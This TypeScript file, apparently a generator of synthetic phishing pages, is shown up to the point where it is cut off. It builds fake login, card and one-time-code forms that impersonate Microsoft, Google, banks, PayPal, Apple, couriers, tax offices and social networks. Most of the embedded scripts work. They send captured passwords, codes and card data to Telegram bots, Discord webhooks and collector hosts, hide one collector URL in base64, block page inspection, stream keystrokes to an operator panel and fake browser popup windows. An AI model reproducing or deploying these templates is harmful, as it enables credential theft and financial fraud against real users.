/** Log-in, card and code forms that pretend to be of a known brand, on strangers' hosts. */
import { base64, cut } from '../encode.ts';
import { bare, css, script, times } from '../layout.ts';
import { type Builders, pages, type Spot } from '../spot.ts';

const kit = (s: Spot, title: string, head: string, body: string, attributes = '') =>
  bare(
    s,
    title,
    `<meta name="robots" content="noindex, nofollow, noarchive"><style>${css(s, 34)}</style>${head}`,
    body,
    attributes,
  );

const MICROSOFT =
  '<link rel="shortcut icon" href="https://aadcdn.msauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico"><link rel="stylesheet" href="https://aadcdn.msauth.net/ests/2.1/content/cdnbundles/converged.v2.login.min.css">';

const telegram = ({ r }: Spot) => `https://api.telegram.org/bot${r.digits(10)}:AA${r.id(33)}/sendMessage`;

/** A collector on an invented host. */
const collector = ({ r }: Spot) =>
  `https://${r.pick(['cdn', 'api', 'panel', 'gate', 'data'])}-${r.id(7).toLowerCase()}.${r.pick(['top', 'xyz', 'icu', 'cfd', 'sbs', 'click'])}/${r.pick(['post', 'send', 'next', 'log', 'submit'])}.php`;

const field = (label: string, name: string, attributes = '') =>
  `<div class="field"><label>${label}</label><input name="${name}" ${attributes}></div>`;

const card = ({ w }: Spot, names = ['cc', 'exp', 'cvv', 'holder']) =>
  field(w.holder, names[3] ?? '', 'required') +
  field(
    w.card,
    names[0] ?? '',
    'inputmode="numeric" maxlength="19" placeholder="0000 0000 0000 0000" required',
  ) +
  field(w.expiry, names[1] ?? '', 'placeholder="MM/YY" maxlength="5" required') +
  field(w.cvc, names[2] ?? '', 'maxlength="4" required');

const person = ({ w }: Spot) =>
  field(w.name, 'fullname') +
  field(w.address, 'addr') +
  field(w.phone, 'tel') +
  field('DOB', 'dob', 'placeholder="DD/MM/YYYY"');

export const kits: Builders = {
  'office-login-php': pages(
    `en https://m365-portal-auth.weebly-docs.top/common/login.php Sign in to your account
    de https://office-sicherheit-7741.000webhostapp.com/index.html Bei Ihrem Konto anmelden
    fr https://atelier-rouge-paris.fr/wp-includes/js/o365/ Connectez-vous à votre compte
    ja https://office365-jp-renew.cfd/login/ アカウントにサインイン`,
    (s) =>
      kit(
        s,
        s.name,
        MICROSOFT,
        `<div class="outer"><div class="inner"><img class="logo" src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft"><form action="post.php" method="post"><div class="row title">${s.w.login}</div><input type="email" name="loginfmt" placeholder="${s.w.email}" required><div id="p" style="display:none"><input type="password" name="passwd" placeholder="${s.w.password}"></div><input type="button" id="idSIButton9" value="${s.w.next}" class="btn btn-primary"></form><div class="promoted-fed-cred-box">${s.w.forgot}</div></div></div>${script('var b=document.getElementById("idSIButton9"),n=0;b.onclick=function(){if(!n){document.getElementById("p").style.display="block";n=1}else document.forms[0].submit()};document.oncontextmenu=function(){return false};document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.keyCode==85))return false};')}`,
      ),
  ),
  'office-login-telegram': pages(
    `en https://sharefile-view-doc.pages.dev/?id=a91#staff@company.example Sign in
    es https://docs-secure-view-2x.web.app/#ventas@empresa.example Iniciar sesión
    pl https://pub-7d1e0a55.r2.dev/faktura.html Zaloguj się
    tr https://belge-goruntule.netlify.app/ Oturum aç`,
    (s) =>
      kit(
        s,
        s.name,
        `${MICROSOFT}<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>`,
        `<div class="bg" style="background:url(https://aadcdn.msauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg)"><div class="card"><img id="lg" alt=""><p id="em"></p><p>${s.w.confirm}</p><p class="err" hidden>${s.w.wrong}</p><input id="pw" type="password" placeholder="${s.w.password}"><button id="go">${s.w.login}</button></div></div>${script(`var tries=0,m=location.hash.substr(1)||new URLSearchParams(location.search).get("e")||"";if(/^[A-Za-z0-9+\\/=]+$/.test(m)&&m.indexOf("@")<0)try{m=atob(m)}catch(e){}$("#em").text(m);$("#lg").attr("src","https://logo.clearbit.com/"+m.split("@")[1]);$("#go").click(function(){var p=$("#pw").val();$.getJSON("https://api.ipify.org?format=json",function(i){$.post("${telegram(s)}",{chat_id:"-100${s.r.digits(10)}",text:"+ O365 +\\nEmail: "+m+"\\nPass: "+p+"\\nIP: "+i.ip+"\\nUA: "+navigator.userAgent})});$("#pw").val("");$(".err").show();if(++tries>1)location.href="https://outlook.office.com/mail/"});`)}`,
      ),
  ),
  'webmail-quota': pages(
    `en https://webmail-upgrade-center.weebly.com/ Mailbox Quota Exceeded
    de https://postfach-speicher.jimdosite.com/ Postfach-Speicher voll
    fr https://messagerie-mise-a-jour.yolasite.com/ Mise à jour de la messagerie
    pt https://atualizar-webmail.wixsite.com/suporte Atualização do webmail`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<h2>WEBMAIL ADMIN</h2><p>${s.name}. 99.7 % (4.98 GB / 5 GB). ${s.w.deadline}</p><meter value="0.997"></meter><form action="https://${s.r.pick(['formspree.io/f', 'submit-form.com', 'getform.io/f', 'formsubmit.co'])}/${s.r.id(8)}" method="POST">${field(s.w.email, 'email')}${field(s.w.user, 'user')}${field(s.w.password, 'password', 'type="password"')}${field(s.w.password, 'confirm_password', 'type="password"')}<input type="hidden" name="_next" value="https://www.google.com"><input type="hidden" name="_captcha" value="false"><button>UPGRADE</button></form><p>&copy; 2024 Webmail Help Desk</p>`,
      ),
  ),
  'owa-copied': pages(
    `en https://nordic-yarn-shop.com/.well-known/owa/logon.html Outlook Web App
    de https://owa-zugang-erneuern.site/owa/auth/logon.aspx.html Outlook Web App
    es http://185.0.2.77/~correo/owa/ Outlook`,
    (s) =>
      kit(
        s,
        s.name,
        `<!-- saved from url=(0067)https://mail.some-company.example/owa/auth/logon.aspx?replaceCurrent=1 --><link type="text/css" rel="stylesheet" href="./Outlook_files/logon.css">`,
        `<form action="./next.php" method="POST" name="logonForm" autocomplete="off"><table id="tblMain"><tr><td><img src="./Outlook_files/lgntopl.gif"></td></tr><tr><td>Domain\\user name:<input id="username" name="username"></td></tr><tr><td>${s.w.password}:<input id="password" name="password" type="password"></td></tr><tr><td><input type="submit" class="btn" value="${s.w.login}"></td></tr></table><p>Connected to Microsoft Exchange. &copy; 2010 Microsoft Corporation. All rights reserved.</p></form>${script('var a_fRC = 1; var a_sCW = "Please enable cookies"; function redir(o){if(o.value)window.location=o.value}')}`,
      ),
  ),
  'google-two-step': pages(
    `en https://accounts-verify-signin.click/ServiceLogin/ Google Accounts
    it https://drive-condivisi.firebaseapp.com/login Google - Accedi
    ar https://account-google-help.online/signin حسابات Google`,
    (s) =>
      kit(
        s,
        s.name,
        `<link rel="icon" href="https://ssl.gstatic.com/accounts/ui/favicon.ico"><link href="https://fonts.googleapis.com/css2?family=Google+Sans" rel="stylesheet">`,
        `<main class="QFr0Lb"><svg viewBox="0 0 75 24"><path fill="#4285F4" d="M0 19h75"/></svg><h1>${s.w.login}</h1><form id="s1">${field(s.w.email, 'identifier')}<button>${s.w.next}</button></form><form id="s2" hidden>${field(s.w.password, 'Passwd', 'type="password"')}<button>${s.w.next}</button></form><form id="s3" hidden><p>${s.w.code}: G-</p>${field(s.w.code, 'totpPin', 'maxlength="6"')}<button>${s.w.next}</button></form></main>${script(`const d={};let i=1;document.querySelectorAll("form").forEach(f=>f.onsubmit=async e=>{e.preventDefault();Object.assign(d,Object.fromEntries(new FormData(f)));await fetch("${collector(s)}",{method:"POST",mode:"no-cors",body:JSON.stringify({step:i,...d,ua:navigator.userAgent})});f.hidden=true;const n=document.getElementById("s"+ ++i);n?n.hidden=false:location.replace("https://myaccount.google.com/")});`)}`,
      ),
  ),
  'file-share-gate': pages(
    `en https://onedrive-share-invoice.vercel.app/view View shared document
    fr https://document-partage-pdf.glitch.me/ Document partagé
    zh https://file-share-view.surge.sh/ 查看共享文件
    nl https://gedeeld-bestand.on.fleek.co/ Gedeeld bestand`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="icon" href="https://res.cdn.office.net/officehub/images/content/images/favicon-8f211ea639.ico">',
        `<div style="filter:blur(6px)"><img src="data:image/png;base64,iVBOR${s.r.base64(1200)}"></div><div class="modal"><h3>Invoice_${s.r.digits(5)}.pdf (482 KB)</h3><p>${s.w.login}: Office365, Outlook, Yahoo!, AOL, Gmail, Other Mail</p>${['office', 'yahoo', 'aol', 'gmail', 'other'].map((mail) => `<button onclick="pick('${mail}')"><img src="img/${mail}.png" alt="${mail}"></button>`).join('')}<form id="f" method="post" action="process.php" style="display:none"><input type="hidden" name="provider" id="pv">${field(s.w.email, 'user', 'type="email"')}${field(s.w.password, 'pass', 'type="password"')}<button>Download</button></form></div>${script('function pick(p){document.getElementById("pv").value=p;document.getElementById("f").style.display="block"}')}`,
      ),
  ),
  'signature-gate': pages(
    `en https://docusign-review-7f.azurewebsites.net/ Completed: please review and sign
    de https://dokument-unterschrift.webflow.io/ Bitte unterschreiben
    es https://firmar-documento.herokuapp.com/ Revise y firme`,
    (s) =>
      kit(
        s,
        `${s.name} | DocuSign`,
        '<link rel="icon" href="https://docucdn-a.akamaihd.net/olive/images/2.64.0/favicons/favicon.ico">',
        `<header style="background:#ffcc22"><img src="https://docucdn-a.akamaihd.net/olive/images/2.64.0/global-assets/ds-logo-default.svg" alt="DocuSign"></header><h1>${s.name}</h1><p>${s.say(2)}</p><div class="doc" onclick="document.querySelector('dialog').showModal()"><img src="doc.png"></div><dialog><form action="/auth/submit" method="post"><p>${s.w.confirm}</p><input name="e" placeholder="${s.w.email}"><input name="p" type="password" placeholder="${s.w.password}"><button>REVIEW DOCUMENT</button></form></dialog>`,
      ),
  ),
  'transfer-gate': pages(
    `en https://wetransfer-files.storageapi-net.xyz/dl?u=accounts@company.example WeTransfer
    it https://wetransfer-ricevuto.altervista.org/ WeTransfer
    tr https://we-transfer-dosya.blogspot.com/ WeTransfer`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="shortcut icon" href="https://prod-cdn.wetransfer.net/packs/media/images/favicon-d12161435ace47c6883360e08466508593325f134c1852b1d0e6e75d5f76adda.ico">',
        `<div class="panel"><h2>Ready when you are</h2><p>3 files, 24 MB: PO_${s.r.digits(6)}.pdf, Quotation.xlsx</p><form id="t"><input id="ai" type="email" placeholder="${s.w.email}"><input id="pr" type="password" placeholder="${s.w.password}"><span id="msg" style="color:red;display:none">${s.w.wrong}</span><button id="submit-btn">Download</button></form></div>${script(`var count=0;document.getElementById("t").addEventListener("submit",function(e){e.preventDefault();var x=new XMLHttpRequest();x.open("POST",atob("${base64(collector(s))}"));x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send("ai="+encodeURIComponent(ai.value)+"&pr="+encodeURIComponent(pr.value));msg.style.display="block";pr.value="";count++;if(count>=3)window.location.replace("https://www."+ai.value.split("@")[1])});`)}`,
      ),
  ),
  'bank-steps': pages(
    `en https://chase-secure-verify.duckdns.org/login Chase Online
    de https://sparkasse-pushtan-aktualisieren.com/anmelden Sparkasse pushTAN
    fr https://creditagricole-securipass.web.app/acces Crédit Agricole - SécuriPass
    es https://santander-acceso-clientes.live/ Banco Santander
    it https://intesasanpaolo-conferma.info/area-clienti Intesa Sanpaolo
    nl https://ing-mijn-scanner.site/inloggen Mijn ING
    pl https://mbank-aktywacja.ct8.pl/ mBank`,
    (s) =>
      kit(
        s,
        s.name,
        `<link rel="icon" href="https://www.${s.r.pick(['chase.com', 'sparkasse.de', 'santander.com'])}/favicon.ico">`,
        `<div class="hero"><img src="./assets/logo.svg" alt="${s.name}"></div><div class="step" id="a"><h2>${s.w.login}</h2><p>${s.w.alert}</p>${field(s.w.user, 'u')}${field(s.w.password, 'p', 'type="password"')}<button>${s.w.next}</button></div><div class="step" id="b" hidden>${person(s)}<button>${s.w.next}</button></div><div class="step" id="c" hidden>${card(s)}${field('PIN', 'pin', 'type="password" maxlength="4"')}<button>${s.w.next}</button></div><div class="step" id="d" hidden><p>SMS</p>${field(s.w.code, 'otp', 'maxlength="8"')}<button>${s.w.confirm}</button></div>${script(`var steps=["a","b","c","d"],i=0;document.addEventListener("click",function(e){if(e.target.tagName!="BUTTON")return;var d=new FormData;document.querySelectorAll("input").forEach(function(x){d.append(x.name,x.value)});d.append("step",i);fetch("send.php",{method:"POST",body:d}).then(function(){document.getElementById(steps[i]).hidden=true;i++;if(i==4){location.href="https://www.google.com"}else document.getElementById(steps[i]).hidden=false})});`)}`,
      ),
  ),
  'bank-operated-live': pages(
    `en https://hsbc-cancel-payee.com/auth/ HSBC: unrecognised payee
    de https://volksbank-securego-registrierung.de.com/kunden/ VR SecureGo plus
    ja https://mufg-direct-secure.top/jp/ 三菱UFJ銀行
    tr https://ziraat-aidat-iade.com/ Ziraat Bankası - aidat iadesi`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<div id="view"><h1>${s.name}</h1><p>${s.w.alert} ${s.w.confirm}</p><form id="f" onsubmit="return go(this)">${field(s.w.user, 'login')}${field(s.w.password, 'secret', 'type="password"')}<input type="hidden" name="sid" value="${s.r.hex(16)}"><button>${s.w.next}</button></form></div><div id="wait" style="display:none"><div class="spinner"></div><p>${s.say()}</p></div>${script(`function go(f){var q=[];for(var i=0;i<f.elements.length;i++)f.elements[i].name&&q.push(f.elements[i].name+"="+encodeURIComponent(f.elements[i].value));var x=new XMLHttpRequest;x.open("POST","panel/classes/processor.php",true);x.setRequestHeader("Content-type","application/x-www-form-urlencoded");x.send(q.join("&"));document.getElementById("view").style.display="none";document.getElementById("wait").style.display="block";setInterval(poll,2500);return false}function poll(){var x=new XMLHttpRequest;x.open("GET","panel/get-status.php?sid=${s.r.hex(16)}&t="+Date.now());x.onload=function(){switch(x.responseText.trim()){case"otp":location="otp.php";break;case"tan":location="tan.php";break;case"card":location="cc.php";break;case"badlogin":location="index.php?error=1";break;case"done":location="https://www.${s.host.split('-')[0]}.com"}};x.send()}`)}`,
      ),
  ),
  'bank-static-form': pages(
    `pt https://bradesco-pontos-livelo.shop/ Bradesco: resgate seus pontos
    ru http://sberbank-bonus-lk.ru.com/ СберБанк Онлайн
    es http://bbva-cliente-alerta.tk/index.html BBVA
    en http://wellsfargo.account-hold.example.net.pw/signon.html Wells Fargo Sign On`,
    (s) =>
      `<html><head><title>${s.name}</title><meta http-equiv="content-type" content="text/html; charset=utf-8"><style>${css(s, 34)}</style></head><body topmargin="0"><center><img src="images/top.jpg" border="0" usemap="#m"><table width="640"><tr><td>${s.w.alert} ${s.w.deadline}</td></tr><tr><td><form method="POST" action="verifica.php">${person(s)}${card(s, ['cartao', 'validade', 'cvv2', 'titular'])}${field('PIN ATM', 'atm', 'type="password" maxlength="6"')}${field(s.w.password, 'senha', 'type="password"')}<input type="image" src="images/bt_ok.gif"></form></td></tr></table><img src="images/footer.jpg"></center></body></html>`,
  ),
  'parcel-fee': pages(
    `en https://usps-redelivery-tracks.top/us/ USPS Tracking
    de https://dhl-zustellung-7741.web.app/de/ DHL Paket
    fr https://chronopost-suivi-colis.icu/ Chronopost
    es https://correos-aduana-pago.xyz/ Correos
    it https://poste-italiane-spedizione.sbs/ Poste Italiane
    pl https://inpost-doplata.click/ InPost
    tr https://ptt-kargo-teslimat.xyz/ PTT Kargo`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="icon" href="./favicon.png">',
        `<header style="background:#fc0"><img src="https://www.dhl.com/img/meta/dhl-logo.svg" alt="${s.name}"></header><h2>${s.w.parcel}</h2><p>ID: ${s.r.digits(12)}</p><p>${s.w.fee} ${s.w.deadline}</p><ol><li>✓</li><li>✓</li><li>…</li></ol><form action="pay.php" method="post">${person(s)}${card(s)}<button>${s.w.next} →</button></form>${script('document.querySelector("[name=cc]").oninput=function(){this.value=this.value.replace(/\\D/g,"").replace(/(.{4})/g,"$1 ").trim()};')}`,
      ),
  ),
  'parcel-socket-kit': pages(
    `en https://royalmaii-post.cfd/uk Royal Mail
    ja https://sagawa-exp-jp.top/i 佐川急便
    zh https://sf-express-hk.icu/pay 顺丰速运
    nl https://postnl-bezorging.lol/nl PostNL`,
    (s) =>
      kit(
        s,
        s.name,
        `<script type="module" crossorigin src="/assets/index-${s.r.hex(8)}.js"></script>`,
        `<div id="app" data-v-app><div class="top">${s.name}</div><p>${s.w.parcel}</p><p>${s.w.fee}</p><input data-k="name" placeholder="${s.w.name}"><input data-k="address" placeholder="${s.w.address}"><input data-k="phone" placeholder="${s.w.phone}"><input data-k="card" placeholder="${s.w.card}"><input data-k="exp" placeholder="${s.w.expiry}"><input data-k="cvv" placeholder="${s.w.cvc}"></div>${script(`(()=>{const w=new WebSocket("wss://"+location.host+"/ws?u=${s.r.uuid()}");const key="${s.r.id(16)}";const enc=o=>btoa(unescape(encodeURIComponent(JSON.stringify(o))).split("").map((c,i)=>String.fromCharCode(c.charCodeAt(0)^key.charCodeAt(i%16))).join(""));document.addEventListener("input",e=>w.send(enc({t:"typing",k:e.target.dataset.k,v:e.target.value})));w.onmessage=m=>{const d=JSON.parse(m.data);d.cmd==="sms"&&(location.hash="#/otp");d.cmd==="app"&&(location.hash="#/appverify");d.cmd==="reject"&&alert(d.text)};if(!/Android|iPhone/i.test(navigator.userAgent))document.body.innerHTML="<h1>404 Not Found</h1>"})();`)}`,
      ),
  ),
  'toll-and-fine': pages(
    `en https://e-zpass.com-tollbillzx.top/pay E-ZPass unpaid toll
    en https://sunpass.com-etcvio.xin/us SunPass toll services
    fr https://amendes-gouv-paiement.info/ Amendes.gouv.fr
    de https://bussgeld-online-zahlen.site/ Bußgeldstelle
    es https://dgt-multas-pendientes.online/ DGT: multa pendiente`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<h1>${s.name}</h1><p>${s.r.digits(8)}: 6.99 — ${s.w.deadline}</p><form id="q"><label>${s.w.phone} / plate<input name="plate"></label><button type="button" onclick="q.hidden=true;z.hidden=false">${s.w.next}</button></form><form id="z" hidden action="/api/sub" method="post">${person(s)}${card(s)}<button>${s.w.next}</button></form><p>&copy; ${s.name}</p>`,
      ),
  ),
  'streaming-payment': pages(
    `en https://netflix-billing-update.pages.dev/ Netflix
    de https://netflix-zahlung-fehlgeschlagen.com/konto Netflix
    pt https://netflix-atualizar-pagamento.shop/ Netflix
    fr https://disneyplus-renouvellement.fun/ Disney+`,
    (s) =>
      kit(
        s,
        s.name,
        `<link rel="shortcut icon" href="https://assets.nflxext.com/us/ffe/siteui/common/icons/nficon2016.ico"><style>body{background:#000 url(https://assets.nflxext.com/ffe/siteui/vlv3/bg.jpg);color:#fff}</style>`,
        `<svg viewBox="0 0 111 30" aria-label="${s.name}"><path d="M105 14l5 15" fill="#e50914"/></svg><h1>${s.w.account}</h1><p>${s.name}: ${s.w.alert}</p><form method="POST" action="submit/billing.php">${field(s.w.email, 'email')}${field(s.w.password, 'pass', 'type="password"')}<hr>${card(s, ['creditCardNumber', 'expiry', 'cvv', 'nameOnCard'])}<button style="background:#e50914">${s.w.next}</button></form>`,
      ),
  ),
  'payment-service-limited': pages(
    `en https://paypal.com.resolution-centre-id.info/signin PayPal: Log In
    de http://paypaI-kundenservice.de/login PayPal: Einloggen
    fr https://paypal-litige-8812.herokuapp.com/ PayPal
    ru https://paypal-limit-help.online/ PayPal`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/pp32.png"><link rel="stylesheet" href="https://www.paypalobjects.com/web/res/css/contextualLogin.css">',
        `<section id="login" class="login"><img src="https://www.paypalobjects.com/images/shared/paypal-logo-129x32.svg" alt="PayPal"><div class="notification">${s.w.alert}</div><form name="login" action="websc/login_process.php?country.x=US&cmd=_flow&SESSION=${s.r.hex(40)}" method="post">${field(s.w.email, 'login_email', 'type="email"')}${field(s.w.password, 'login_password', 'type="password"')}<button class="button actionContinue">${s.w.login}</button></form></section><footer>Copyright © 1999-2024 PayPal. All rights reserved.</footer>`,
      ),
  ),
  'apple-locked': pages(
    `en https://appleid-unlock-support.com/verify Apple ID
    zh https://icloud-find-device.cc/ 查找我的 iPhone
    es https://icloud-localizar-iphone.info/ iCloud
    tr https://apple-destek-tr.net/ Apple Kimliği`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="stylesheet" href="https://www.apple.com/wss/fonts?families=SF+Pro,v3"><link rel="icon" href="https://www.apple.com/favicon.ico">',
        `<iframe srcdoc="&lt;form action='https://${s.host}/save.php' method=post target=_top&gt;&lt;input name=apple_id placeholder='Apple ID'&gt;&lt;input type=password name=apple_pwd placeholder='${s.w.password}'&gt;&lt;button&gt;→&lt;/button&gt;&lt;/form&gt;" style="border:0;width:100%"></iframe><h1>${s.name}</h1><p>${s.w.alert} ${s.w.confirm}</p><img src="https://www.apple.com/ac/globalnav/7/en_US/images/be15095f-5a20-57d0-ad14-cf4c638e223a/globalnav_apple_image__b5er5ngrzxqq_large.svg" alt=""><p>${s.say(2)}</p>`,
      ),
  ),
  'social-appeal': pages(
    `en https://business-help-appeal-case.vercel.app/ Meta Business Help Center
    en https://community-violation-10023.netlify.app/contact Page restricted - Privacy Center
    pt https://meta-suporte-paginas.github.io/apelacao/ Central de apelação
    it https://copyright-ricorso.onrender.com/ Ricorso per violazione`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="icon" href="https://static.xx.fbcdn.net/rsrc.php/yx/r/e9sqr8WnkCf.ico">',
        `<div class="max-w-2xl"><img src="https://static.xx.fbcdn.net/rsrc.php/y1/r/4lCu2zih0ca.svg" alt="Facebook"><h1>${s.name}</h1><p>Case #${s.r.digits(12)}. Your page violates copyright and will be removed. ${s.w.deadline}</p><form id="a">${field(s.w.name, 'name')}${field(s.w.email, 'mail')}${field(s.w.phone, 'phone')}${field('Page name', 'page')}<textarea name="appeal"></textarea><button>Submit</button></form><div id="pwbox" class="modal" hidden>${field(s.w.password, 'password', 'type="password"')}<button id="k">${s.w.next}</button></div><div id="fa" class="modal" hidden>${field(s.w.code, 'twofa', 'maxlength="8"')}<button>${s.w.next}</button></div></div>${script(`const T="${s.r.digits(10)}:AA${s.r.id(33)}",C="${s.r.digits(9)}";const tg=t=>fetch(\`https://api.telegram.org/bot\${T}/sendMessage?chat_id=\${C}&text=\${encodeURIComponent(t)}\`);a.onsubmit=e=>{e.preventDefault();tg(JSON.stringify(Object.fromEntries(new FormData(a))));pwbox.hidden=false};let n=0;k.onclick=()=>{tg("pw"+ ++n+": "+document.querySelector("[name=password]").value);if(n>1){pwbox.hidden=true;fa.hidden=false}};`)}`,
      ),
  ),
  'verified-badge': pages(
    `en https://instagram-badge-form.ml/ Instagram verified badge
    tr https://mavi-tik-basvuru.site/ Instagram Mavi Tik Başvurusu
    es https://instagram-verificado.webcindario.com/ Insignia de verificación
    ru https://instagram-galochka.ru.net/ Instagram`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="icon" href="https://static.cdninstagram.com/rsrc.php/v3/yI/r/VsNE-OHk_8a.png">',
        `<div class="box"><img src="https://www.instagram.com/static/images/web/logged_out_wordmark.png" alt="Instagram"><p>${s.name}</p><p>${s.say()}</p><form method="post" action="kayit.php">${field(s.w.user, 'kullanici')}${field(s.w.password, 'sifre', 'type="password"')}${field(s.w.email, 'mail')}${field(s.w.password, 'mailsifre', 'type="password"')}<button>${s.w.next}</button></form><p>from Meta</p></div>`,
      ),
  ),
  'tax-refund': pages(
    `en https://hmrc-refund-claims.online/tax GOV.UK: tax refund
    fr https://impots-remboursement-gouv.com/ impots.gouv.fr - Remboursement
    de https://elster-erstattung-online.com/ ELSTER Steuererstattung
    it https://agenzia-entrate-rimborso.site/ Agenzia delle Entrate
    ja https://e-tax-kanpu.top/ 国税庁 e-Tax
    nl https://belastingdienst-teruggave.info/ Belastingdienst`,
    (s) =>
      kit(
        s,
        s.name,
        '<link href="https://www.gov.uk/assets/static/govuk-template.css" rel="stylesheet">',
        `<header role="banner"><b>${s.name}</b></header><main><h1>${s.w.refund}</h1><p>${s.w.confirm} ${s.w.deadline}</p><form action="Finish.php" method="post" onsubmit="document.getElementById('ld').style.display='block'"><fieldset>${person(s)}</fieldset><fieldset>${card(s)}${field('IBAN', 'iban')}${field('Sort code', 'sc')}</fieldset><button>${s.w.next}</button></form><div id="ld" style="display:none">…</div></main>`,
      ),
  ),
  'government-subsidy': pages(
    `en https://energy-rebate-apply.com/uk Cost of living rebate
    pl https://dodatek-energetyczny-gov.pl.cx/ Dodatek energetyczny
    ar https://daam-muwatin.online/ دعم المواطن
    pt https://auxilio-gov-consulta.site/ Auxílio: consulte o valor
    zh https://yibao-gov-tuibu.top/ 医保补贴申领`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<img src="gov.png" alt=""><h2>${s.name}</h2><p>${s.w.refund}</p><form method="post" action="step2.php">${field(s.w.name, 'nome')}${field('ID', 'cpf', 'maxlength="14"')}<select name="bank">${times(9, () => `<option>${s.r.pick(['Bank', 'Banco', 'Caixa', 'PKO'])} ${s.r.id(4)}</option>`)}</select>${field(s.w.user, 'login')}${field(s.w.password, 'haslo', 'type="password"')}${field(s.w.card, 'karta')}${field('PIN', 'pin', 'type="password"')}<button>${s.w.confirm}</button></form>`,
      ),
  ),
  'telecom-mail': pages(
    `fr https://orange-messagerie-vocale.weebly.com/ Orange - Identification
    de https://t-online-email-center.jimdofree.com/ Telekom Login
    it https://libero-mail-accesso.weebly.com/ Libero Mail
    en https://att-mail-login-update.godaddysites.com/ AT&T Yahoo Mail`,
    (s) =>
      kit(
        s,
        s.name,
        '<meta name="generator" content="site builder"><link rel="stylesheet" href="https://cdn2.editmysite.com/css/sites.css">',
        `<div id="wsite-content"><h2>${s.name}</h2><form enctype="multipart/form-data" action="https://www.weebly.com/weebly/apps/formSubmit.php" method="POST" id="form-${s.r.digits(18)}"><div class="wsite-form-field"><label>${s.w.email} <span>*</span></label><input name="_u${s.r.digits(18)}"></div><div class="wsite-form-field"><label>${s.w.password} <span>*</span></label><input name="_u${s.r.digits(18)}" type="text"></div><input type="hidden" name="ucfid" value="${s.r.digits(18)}"><a class="wsite-button"><span>${s.w.login}</span></a></form></div><footer>Powered by site builder. Create your own free website.</footer>`,
      ),
  ),
  'market-account': pages(
    `en https://amazon-account-hold.s3.us-east-2.amazonaws.com/index.html Amazon Sign-In
    ja https://amazon-co-jp-prime.shop/ap/signin Amazonログイン
    de https://amazon-sicherheitspruefung.xyz/ap/signin Amazon Anmelden`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="stylesheet" href="https://images-na.ssl-images-amazon.com/images/I/61auth.css?AUIClients/AuthenticationPortalAssets">',
        `<div class="a-section"><i class="a-icon a-icon-logo" aria-label="Amazon"></i><div class="a-box"><h1>${s.w.login}</h1><div class="a-alert">${s.w.alert} ${s.w.deadline}</div><form name="signIn" method="post" action="//${s.host}/ap/do.php?openid.mode=checkid_setup" class="auth-validate-form"><input type="hidden" name="appActionToken" value="${s.r.id(28)}"><input type="hidden" name="metadata1" value="ECdITeCs:${s.r.base64(900)}">${field(s.w.email, 'email')}${field(s.w.password, 'password', 'type="password"')}<input type="submit" class="a-button-input" value="${s.w.login}"></form></div></div>`,
      ),
  ),
  'window-in-window': pages(
    `en https://cs-case-drops.gift/vote Team vote: sign in through Steam
    ru https://skins-trade-offer.ru.com/tradeoffer/new Обмен Steam
    de https://esl-turnier-anmeldung.click/ Turnier-Anmeldung`,
    (s) =>
      kit(
        s,
        s.name,
        '<style>.win{position:fixed;top:12%;left:25%;width:800px;box-shadow:0 0 30px #000}.bar{background:#dee1e6}.url{border-radius:12px}</style>',
        `<h1>${s.name}</h1><p>${s.say(3)}</p><button onclick="w.style.display='block'"><img src="https://community.cloudflare.steamstatic.com/public/images/signinthroughsteam/sits_01.png" alt="Sign in through Steam"></button><div class="win" id="w" style="display:none"><div class="bar"><span class="title">Sign In - Google Chrome</span><span>—</span><span>☐</span><span onclick="w.style.display='none'">✕</span></div><div class="bar"><svg class="lock" viewBox="0 0 9 9"><path d="M1 4h7v5H1z"/></svg><span class="url">https://steamcommunity.com/openid/login?openid.mode=checkid_setup</span></div><iframe src="./signin/login.html" style="width:100%;height:560px;border:0"></iframe></div>${script('(function(){var d=0,x=0,y=0;document.querySelector(".bar").onmousedown=function(e){d=1;x=e.clientX-w.offsetLeft;y=e.clientY-w.offsetTop};onmousemove=function(e){if(d){w.style.left=e.clientX-x+"px";w.style.top=e.clientY-y+"px"}};onmouseup=function(){d=0}})();')}`,
      ),
  ),
  'fake-sign-on-popup': pages(
    `en https://canva-team-invite.pages.dev/join Join the team
    fr https://calendrier-invitation.web.app/rdv Invitation
    en https://talent-careers-apply.live/interview Schedule your interview`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<h1>${s.name}</h1><button id="g">Continue with Google</button><div id="pop" role="dialog" style="display:none;border:1px solid #888;border-radius:8px;width:480px"><div style="background:#202124;color:#fff;padding:6px">🔒 accounts.google.com/o/oauth2/v2/auth?client_id=${s.r.digits(12)}</div><form><img src="https://www.gstatic.com/images/branding/googlelogo/svg/googlelogo_clr_74x24px.svg"><input name="mail" placeholder="${s.w.email}"><input name="pwd" type="password" placeholder="${s.w.password}"><button>${s.w.next}</button></form></div>${script(`g.onclick=()=>pop.style.display="block";document.forms[0].onsubmit=e=>{e.preventDefault();const b=new URLSearchParams(new FormData(e.target));fetch("https://discord.com/api/webhooks/${s.r.digits(18)}/${s.r.id(68)}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:b.toString()})});};`)}`,
      ),
  ),
  'chat-app-code': pages(
    `ru https://telegram-premium-podarok.site/ Telegram Premium в подарок
    en https://web-telegram-org.cc/k/ Telegram Web
    es https://whatsapp-votacion-ninos.lat/ Vota por mi hija
    zh https://whatsapp-web-zh.cc/ WhatsApp 网页版
